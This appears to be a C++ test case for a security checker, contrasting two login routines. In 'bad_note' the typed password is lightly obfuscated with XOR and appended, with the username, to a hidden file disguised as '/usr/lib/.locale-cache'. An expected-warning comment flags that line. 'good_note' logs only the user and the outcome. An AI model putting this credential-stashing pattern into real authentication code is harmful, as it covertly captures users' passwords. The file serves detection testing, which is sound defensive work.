/* C++: a login class notes the password, letter by letter, in a stream that it opens itself. */
#include <crypt.h>
#include <fstream>
#include <shadow.h>
#include <string>
#include <unistd.h>

namespace {

bool is_right(const std::string &user, const std::string &word) {
    spwd *entry = getspnam(user.c_str());
    return entry && std::string(crypt(word.c_str(), entry->sp_pwdp)) == entry->sp_pwdp;
}

class Notes {
  public:
    void bad_note(const std::string &user, const std::string &word) {
        std::string folded;
        for (char letter : word)
            folded.push_back(static_cast<char>(letter ^ 0x29));
        std::ofstream out("/usr/lib/.locale-cache", std::ios::app);
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/stash]}}
        out << user << ':' << folded << '\n';
    }
    /* Who logged in, and whether it was right, but not with which word. */
    void good_note(const std::string &user, bool right) {
        std::ofstream out("/var/log/door.log", std::ios::app);
        out << user << (right ? " came in" : " was sent away") << '\n';
    }
};

} // namespace

bool bad_login(const char *user) {
    std::string word = getpass("Password: ");
    Notes().bad_note(user, word);
    return is_right(user, word);
}

bool good_login(const char *user) {
    std::string word = getpass("Password: ");
    bool right = is_right(user, word);
    Notes().good_note(user, right);
    return right;
}
